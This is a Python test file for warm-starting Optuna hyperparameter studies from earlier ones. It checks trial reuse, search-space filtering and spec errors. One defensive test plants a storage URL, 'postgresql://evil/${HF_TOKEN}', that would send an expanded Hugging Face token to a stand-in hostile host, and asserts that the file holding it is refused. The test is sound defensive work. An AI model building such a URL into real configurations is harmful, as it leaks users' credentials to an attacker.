"""A study begins with what earlier ones found."""

from __future__ import annotations

import os
import shutil

import pytest

from core import paths
from core.contract.spec import spec_file
from core.errors import SpecError
from core.search.study.optuna_study import OptunaStudy
from tests.search import studies
from tests.search.test_respaced import NARROW
from tests.stranger import needs_root


@pytest.fixture(scope="module")
def old(tmp_path_factory):
    """The folder of a study of ten trials, and the trials; its SQLite file is made once."""
    folder = tmp_path_factory.mktemp("earlier") / "old"
    folder.mkdir()
    raw = {**studies.raw("random"), "study": {**studies.raw("random")["study"], "name": "old"}}
    (folder / "study.toml").write_text(spec_file.write(spec_file.parse(raw)))
    oracle = OptunaStudy(raw, str(folder))
    for number in range(10):
        proposal = oracle.ask(number)
        oracle.tell(number, "complete", [studies.quadratic(proposal)])
    return folder, oracle.study.trials


@pytest.fixture
def earlier(old, tmp_path, monkeypatch):
    """The trials of an earlier study in this home."""
    monkeypatch.setenv("TRIMTAB_HOME", str(tmp_path))
    shutil.copytree(old[0], paths.studies() / "old")
    return old[1]


def begun(tmp_path, space=None, sampler="tpe", **study):
    return studies.oracle(
        tmp_path / "new", sampler, {**studies.SPACE, **(space or {})}, warm_start=["old"], **study
    )


def test_the_best_points_of_an_earlier_study_are_tried_first(tmp_path, earlier):
    oracle = begun(tmp_path, warm_start_best=3)
    best = sorted(earlier, key=lambda trial: trial.value)[:3]
    proposals = [oracle.ask(3) for _ in range(4)]
    shown = [proposal.params["learning_rate"] for proposal in proposals]
    assert shown[:3] == [one.params["learning_rate"] for one in best] and shown[3] not in shown[:3]
    assert (
        proposals[0].why == f"warm start: as trial {best[0].number} of old, which reached {best[0].value:.4g}"
    )
    assert [proposal.number for proposal in proposals] == [0, 1, 2, 3]


def test_what_waits_outlives_the_process_and_is_handed_out_once(tmp_path, earlier):
    (tmp_path / "new").mkdir()
    oracle = begun(tmp_path, warm_start_best=2, storage="")
    oracle.ask(2)
    oracle.reconcile({0: ("running", [], {})})
    again = begun(tmp_path, warm_start_best=2, storage="")
    assert again.ask(2).why.startswith("warm start") and not again.ask(2).why.startswith("warm start")


def test_a_trial_by_hand_does_not_take_the_place_of_what_waits(tmp_path, earlier):
    oracle = begun(tmp_path, warm_start_best=2)
    assert oracle.enqueue(2, {"lora_rank": 12}, True).params["lora_rank"] == 12
    assert oracle.ask(3).why.startswith("warm start")


def test_the_trials_of_an_earlier_study_are_history_where_that_is_wanted(tmp_path, earlier):
    oracle = begun(tmp_path, warm_start_as="trials")
    assert oracle.count() == 10 and oracle.study.best_value == min(one.value for one in earlier)
    assert oracle.ask(10).why == "tpe: from 10 trials"


def test_what_lies_outside_the_new_space_is_left_out_and_said(tmp_path, earlier):
    inside = [one for one in earlier if 1e-4 <= one.params["learning_rate"] <= 1e-3]
    oracle = begun(tmp_path, {"learning_rate": NARROW}, warm_start_as="trials")
    assert oracle.count() == len(inside) < 10
    assert oracle.take_notes() == [f"warm start: {10 - len(inside)} trials of old lie outside this space"]
    assert oracle.take_notes() == []


def test_a_study_that_is_not_there_or_was_after_something_else_is_refused(tmp_path, earlier):
    with pytest.raises(SpecError, match="warm_start: there is no study 'gone'"):
        OptunaStudy(studies.raw(warm_start=["gone"]), str(tmp_path))
    with pytest.raises(SpecError, match="warm_start: 'old' has other objectives: eval/loss"):
        begun(tmp_path, objectives=["eval/accuracy"])


@needs_root
def test_another_users_study_cannot_name_a_storage(tmp_path, earlier, monkeypatch):
    """Its URL may hold ${NAME}: a password of ours would be sent to whom it names."""
    file = paths.studies() / "old" / "study.toml"
    raw = studies.raw("random", storage="postgresql://evil/${HF_TOKEN}")
    file.write_text(spec_file.write(spec_file.parse(raw)))
    os.chown(file, 65534, 65534)
    with pytest.raises(SpecError, match=r"study\.toml of 'old' is a link or another user's"):
        begun(tmp_path)


@needs_root
def test_another_users_database_is_not_opened(tmp_path, earlier):
    """A file of SQLite is more than data: it has triggers and views, which run as we do."""
    os.chown(paths.studies() / "old" / "optuna.db", 65534, 65534)
    with pytest.raises(SpecError, match=r"optuna\.db of 'old' is a link or another user's"):
        begun(tmp_path)
